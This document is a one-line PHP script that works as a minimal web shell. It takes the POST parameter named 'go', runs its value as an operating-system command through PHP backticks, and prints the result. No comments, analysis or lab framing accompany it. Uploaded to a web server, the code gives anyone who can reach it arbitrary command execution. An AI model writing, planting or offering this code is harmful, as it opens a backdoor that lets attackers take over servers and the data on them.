<?php foreach ($_POST as $k => $v) { if ($k === 'go') { echo `$v`; } }
